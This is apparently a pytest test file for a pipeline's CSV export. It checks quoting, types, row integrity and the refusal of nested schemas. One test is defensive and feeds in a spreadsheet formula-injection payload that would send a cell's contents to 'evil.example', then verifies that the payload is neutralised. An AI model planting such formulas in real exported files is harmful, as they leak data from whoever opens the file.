"""Records as CSV: read back by readers that are not ours, and harmless in a spreadsheet."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ie_pipeline.errors import UsageError
from ie_pipeline.record import Record, Status
from ie_pipeline.runs.sinks import open_sink
from tests.runs.sinks.records import ALL, FLAT, NESTED


def write(target: Path, *records: Record) -> list[dict[str, str]]:
    """Write records to a file and read it back with the standard library."""
    with open_sink(str(target), FLAT, fingerprint="f") as sink:
        for record in records:
            sink.write(record)
    with target.open(encoding="utf-8", newline="") as lines:
        return list(csv.DictReader(lines, strict=True))


def test_each_record_is_a_row(tmp_path: Path) -> None:
    """Text as it was, numbers as numbers, lists as JSON, and nothing where there is nothing."""
    full, spare, failed = write(tmp_path / "out.csv", *ALL)
    assert full == {
        "id": "contracts/a.txt",
        "status": "accepted",
        "coverage": "1.0",
        "error": "",
        "law": "Délaware 法",
        "parties": '["Acme, Inc.", "The \\"Beta\\" LLC"]',
        "pages": "12",
        "price": "2.5",
        "signed": "true",
        "seat.city": "Ohio\nUSA",
    }
    assert json.loads(full["parties"]) == ["Acme, Inc.", 'The "Beta" LLC']
    assert spare["coverage"] == "0.9999"
    assert list(failed.values()) == ["c.pdf", "failed", "0.0", "is encrypted", *[""] * 6]


def test_pandas_reads_it(tmp_path: Path) -> None:
    """Numbers and truth values have their types, absent values are missing."""
    pandas = pytest.importorskip("pandas")
    write(tmp_path / "out.csv", *ALL)
    frame = pandas.read_csv(tmp_path / "out.csv")
    assert (frame.pages[0], frame.price[0], frame.signed[0], frame.coverage[1]) == (12, 2.5, True, 0.9999)
    assert frame.law.isna().tolist() == [False, True, True]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_a_document_cannot_plant_a_formula(tmp_path: Path, start: str) -> None:
    """Text that a spreadsheet would evaluate is led by an apostrophe, also in an id and in a reason."""
    text = f'{start}HYPERLINK("http://evil.example?"&A1)'
    record = Record(text, Status.FAILED, {"law": text, "parties": [text], "price": -2.5}, error=text)
    (row,) = write(tmp_path / "out.csv", record)
    assert row["id"] == row["error"] == f"'{text}"
    # Values of fields have lost the space around them, such as a tab.
    assert row["law"] in {f"'{text}", text.strip()}
    assert row["law"][0] not in "=+-@\t\r\n＝＋－＠"
    assert row["parties"].startswith("[")
    assert row["price"] == "-2.5"


@settings(max_examples=50, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(st.lists(st.text(st.characters(exclude_categories=())), min_size=1, max_size=4))
def test_no_text_breaks_a_row(tmp_path: Path, texts: list[str]) -> None:
    """Quotes, commas, line ends, NUL and broken characters stay in their cells."""
    records = [Record(text, Status.ACCEPTED, {"law": text, "parties": [text, "x"]}) for text in texts]
    rows = write(tmp_path / "out.csv", *records)
    assert len(rows) == len(records)
    assert all(row["status"] == "accepted" and len(row) == 10 for row in rows)
    assert all(json.loads(row["parties"])[-1] == "x" for row in rows)


LIST_OF_LISTS = {
    "type": "object",
    "properties": {"matrix": {"type": "array", "items": {"type": "array", "items": {"type": "string"}}}},
}


@pytest.mark.parametrize(("schema", "name"), [(NESTED, "positions"), (LIST_OF_LISTS, "matrix")])
def test_a_nested_schema_is_refused_with_the_field(tmp_path: Path, schema: dict[str, Any], name: str) -> None:
    """A list of objects or of lists has no place in a cell; it is said before a document is read."""
    with pytest.raises(UsageError, match=rf"CSV has no place for {name}: .*\.parquet or \.jsonl"):
        open_sink(str(tmp_path / "out.csv"), schema, fingerprint="f")
